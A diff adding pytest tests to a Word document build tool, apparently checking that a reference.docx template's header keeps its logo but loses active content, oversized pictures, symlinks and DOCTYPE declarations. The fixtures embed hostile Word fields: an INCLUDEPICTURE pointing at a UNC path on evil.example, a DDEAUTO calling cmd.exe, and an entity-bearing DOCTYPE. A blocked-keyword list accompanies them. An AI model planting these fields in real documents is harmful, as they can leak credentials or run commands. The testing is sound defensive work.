@@ -123,3 +123,73 @@ def test_a_malformed_source_date_epoch_is_a_located_refusal(
     assert f"SOURCE_DATE_EPOCH={epoch} is not a date" in result.stderr
     assert "internal error" not in result.stderr
     assert not (project / "out").exists()
+
+
+def _reference_with_logo(folder: Path, logo: bytes) -> Path:
+    """A reference.docx whose header holds a logo, beside the fields and link an attacker adds."""
+    import docx
+    from docx.oxml import parse_xml
+    from test_render_jd import _png
+
+    folder.mkdir(parents=True, exist_ok=True)
+    picture = folder / "logo.png"
+    picture.write_bytes(logo or _png())
+    reference = docx.Document()
+    paragraph = reference.sections[0].header.paragraphs[0]
+    paragraph.add_run().add_picture(str(picture))
+    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+    for xml in (
+        f'<w:r {w}><w:fldChar w:fldCharType="begin"/></w:r>',
+        f'<w:r {w}><w:instrText> INCLUDEPICTURE "\\\\\\\\evil.example\\\\share\\\\pixel.png" \\\\d </w:instrText></w:r>',
+        f'<w:r {w}><w:fldChar w:fldCharType="end"/></w:r>',
+        f'<w:fldSimple {w} w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "><w:r><w:t>x</w:t></w:r></w:fldSimple>',
+        f'<w:hyperlink {w} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
+        'r:id="rId99"><w:r><w:t>click</w:t></w:r></w:hyperlink>',
+    ):
+        paragraph._p.append(parse_xml(xml))
+    path = folder / "templates" / "reference.docx"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    reference.save(path)
+    return path
+
+
+def test_a_reference_header_brings_its_logo_and_nothing_active(tmp_path: Path) -> None:
+    project = copy_good(tmp_path / "project")
+    _reference_with_logo(project, b"")
+    assert build(project).exit_code == 0
+    with zipfile.ZipFile(project / "out/jd/zh/cs-agent.docx") as docx_file:
+        header = docx_file.read("word/header1.xml").decode("utf-8")
+    assert "<w:drawing>" in header or "<w:drawing " in header
+    for active in ("INCLUDEPICTURE", "DDEAUTO", "fldChar", "fldSimple", "hyperlink", "rId99", "evil.example"):
+        assert active not in header, active
+
+
+def test_a_reference_header_picture_is_bounded(tmp_path: Path) -> None:
+    from test_render_jd import _png
+
+    project = copy_good(tmp_path / "project")
+    _reference_with_logo(project, _png() + b"\0" * (2 * 1024 * 1024))  # trailing bytes: still a PNG
+    result = build(project)
+    assert result.exit_code == 2
+    assert "may be at most 1 MB" in result.stderr
+    assert not (project / "out").exists()
+
+
+def test_a_linked_reference_docx_is_refused(tmp_path: Path) -> None:
+    project = copy_good(tmp_path / "project")
+    elsewhere = _reference_with_logo(tmp_path / "elsewhere", b"")
+    (project / "templates").mkdir()
+    (project / "templates/reference.docx").symlink_to(elsewhere)
+    result = build(project)
+    assert result.exit_code == 2
+    assert "reference.docx is a link" in result.stderr
+
+
+def test_a_doctype_in_an_upper_case_xml_part_is_refused(tmp_path: Path) -> None:
+    project = copy_good(tmp_path / "project")
+    path = _reference_with_logo(project, b"")
+    with zipfile.ZipFile(path, "a") as archive:
+        archive.writestr("word/extra.XML", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "boom">]><x>&e;</x>')
+    result = build(project)
+    assert result.exit_code == 2
+    assert "contains a DOCTYPE in word/extra.XML" in result.stderr
